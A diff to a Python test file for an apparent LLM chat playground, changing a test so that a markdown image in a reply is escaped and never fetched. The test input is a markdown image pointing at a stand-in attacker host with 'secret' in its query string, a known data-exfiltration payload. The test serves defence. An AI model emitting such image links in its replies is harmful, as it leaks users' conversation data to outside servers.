@@ -95,15 +95,15 @@ def test_parameters_and_system_prompt_reach_the_request(fake):
     assert (body["temperature"], body["max_tokens"], body["stop"]) == (0.3, 64, ["END"])
 
 
-def test_images_in_a_reply_are_shown_as_links_never_fetched(fake, monkeypatch):
+def test_images_in_a_reply_are_escaped_never_fetched(fake, monkeypatch):
     monkeypatch.setenv("LAVA_BASE_URL", fake.url)
     monkeypatch.setenv("LAVA_FORWARD_TOKEN", TOKEN)
     at = playground()
     reply = send(at, "![chart](https://evil.example/leak.png?c=secret)")  # the fake echoes the prompt back
     (text,) = [text for kind, text in reply if kind == "Markdown"]
-    assert text.endswith("You wrote: image [chart](https://evil.example/leak.png?c=secret)")
+    assert text.endswith("You wrote: \\![chart](https://evil.example/leak.png?c=secret)")
     at.run()  # the history, drawn again, is safe too
-    assert "![chart]" not in page_text(at)
+    assert "![chart]" not in page_text(at).replace("\\![chart]", "")
 
 
 def test_a_bad_parameter_is_shown_by_the_fields_and_keeps_the_chat(fake, monkeypatch):
